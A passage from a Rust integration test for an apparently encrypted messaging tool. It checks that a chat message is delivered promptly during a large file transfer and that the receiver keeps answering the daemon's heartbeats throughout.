        .wait_for(Duration::from_secs(20), |v| v["event"] == "file_offered")
        .expect("no offer");
    let id = offered["id"].as_str().unwrap().to_string();
    bob.wait_for(Duration::from_secs(20), |v| about(v, "file_progress", &id))
        .expect("no progress");

    let start = std::time::Instant::now();
    let out = mpc(
        &net,
        &["--nick", "alice", "send", "bob", "hi, mid-transfer"],
    );
    let took = start.elapsed();
    assert!(
        out.status.success() && text(&out.stdout).contains("delivered"),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(took <= Duration::from_secs(2), "delivered after {took:?}");
    bob.messages_until(Duration::from_secs(2), "hi, mid-transfer");
    // Shown while the file was still coming.
    let events = bob.events();
    let at = events.iter().position(|v| v["event"] == "message").unwrap();
    assert!(
        !events[..at].iter().any(|v| about(v, "file_received", &id)),
        "the transfer ended before the message: it says nothing of the message's wait"
    );
    // The transfer goes on at full speed for a few seconds more (256 MiB), and the receiver's loop answers
    // the daemon's heartbeats all along: a loop that decrypted and wrote a whole window (8 MiB) before it
    // turned missed them for seconds in a debug build with a portable cipher, and the daemon declared the
    // receiver gone.
    let then = verified(&events, &id);
    bob.wait_for(Duration::from_secs(30), |v| {
        about(v, "file_progress", &id) && v["bytes"].as_u64() >= Some(then + 256 * MIB)
    })
    .expect("the transfer stopped");
    assert!(
        !bob.events().iter().any(|v| v["event"] == "daemon_lost"),
        "bob lost the daemon during the transfer: {:?}",
        bob.events()
    );
    assert!(
        !mpd.log_contains("stopped answering heartbeats"),
        "a client stopped answering heartbeats during the transfer"
    );
}
